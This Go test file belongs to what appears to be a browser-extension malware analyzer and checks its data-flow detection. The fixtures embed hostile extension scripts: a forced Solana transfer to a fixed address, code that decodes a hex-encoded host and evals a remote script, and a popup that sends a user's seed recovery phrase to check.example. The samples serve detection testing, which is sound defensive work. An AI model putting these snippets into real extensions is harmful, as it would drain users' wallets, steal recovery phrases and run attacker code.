package analysis

import (
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// What is put into something later: an instruction into a transaction, a host into an address, text into an element of a
// page of the extension that its user may edit.
func TestWhatComesLater(t *testing.T) {
	const manifest = `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["storage"],
		"content_scripts": [{"matches": ["https://dapp.example/*"], "js": ["c.js"], "world": "MAIN"}],
		"background": {"service_worker": "bg.js"}, "action": {"default_popup": "p.html"}}`
	tests := map[string]struct {
		files              map[string]string
		source, sink, host string
		none               bool
	}{
		"an instruction of its own": {map[string]string{"c.js": `const {Transaction: t, PublicKey, SystemProgram} = window.solanaWeb3;
			const tx = new t();
			tx.add(SystemProgram.transfer({toPubkey: new PublicKey("Bjeida13AjgPaUEU9xrh1iQMwxZC7QDdvSfg73oxQff7")}));
			window.solana.signAndSendTransaction(tx);`}, "constant_address", "wallet_request", "", false},
		"what stands on the chain": {map[string]string{"c.js": `fetch("https://eth.llamarpc.com", {method: "POST"}).then((r) => r.json())
			.then((j) => window.ethereum.request({method: "eth_sendTransaction", params: [{nonce: j.result}]}));`}, "network", "wallet_request", "", true},
		"what a server says": {map[string]string{"c.js": `fetch("https://plan.example", {method: "POST"}).then((r) => r.json())
			.then((j) => window.ethereum.request({method: "eth_sendTransaction", params: [{to: j.result}]}));`}, "network", "wallet_request", "", false},
		"a host in hexadecimal": {map[string]string{"bg.js": `(async () => {
			const hex = (await (await fetch("https://chain.example/x")).json()).result;
			let host = "";
			for (let i = 0; i < hex.length; i += 2) host += String.fromCharCode(parseInt(hex.substr(i, 2), 16));
			eval(await (await fetch("https://" + host + "/a")).text());
		})();`}, "network", "eval", "", false},
		"an editable element": {map[string]string{
			"p.html": `<h3>Your secret recovery phrase</h3><div contenteditable="true" id="box"></div><script src="p.js"></script>`,
			"p.js":   `const box = document.getElementById("box"); box.onblur = () => fetch("https://check.example/?q=" + box.innerText);`,
		}, "seed_input", "fetch", "check.example", false},
		"an element that shows": {map[string]string{
			"p.html": `<h3>Your secret recovery phrase</h3><div id="box"></div><script src="p.js"></script>`,
			"p.js":   `const box = document.getElementById("box"); box.onblur = () => fetch("https://check.example/?q=" + box.innerText);`,
		}, "seed_input", "fetch", "check.example", true},
	}
	for name, c := range tests {
		t.Run(name, func(t *testing.T) {
			files := map[string]string{"manifest.json": manifest, "c.js": "", "bg.js": "", "p.html": ""}
			for k, v := range c.files {
				files[k] = v
			}
			r := analyzed(t, files)
			if got := hasFlow(r, c.source, c.sink, c.host); got == c.none {
				t.Errorf("flows: %+v", r.Flows)
			}
		})
	}
}

// One place that reads all fields of a form reads the address of a server with what goes there.
func TestServerAmongFields(t *testing.T) {
	r := analyzed(t, map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["storage", "alarms"],
			"background": {"service_worker": "bg.js"}, "options_page": "o.html"}`,
		"o.html": `<input id="url"><input id="password" type="password"><button id="s"></button><script src="o.js"></script>`,
		"o.js": `document.getElementById("s").onclick = () => chrome.storage.local.set({dav:
			Object.fromEntries(["url", "password"].map((i) => [i, document.getElementById(i).value]))});`,
		"bg.js": `chrome.alarms.onAlarm.addListener(async () => {
			const {dav} = await chrome.storage.local.get("dav");
			fetch(dav.url + "/n.json", {headers: {Authorization: btoa(dav.password)}});
		});`,
	})
	for _, f := range r.Flows {
		if f.Party != behavior.User {
			t.Errorf("%s -> %s is %s", f.Source, f.Host, f.Party)
		}
	}
	if len(r.Flows) == 0 {
		t.Error("no flow")
	}
}
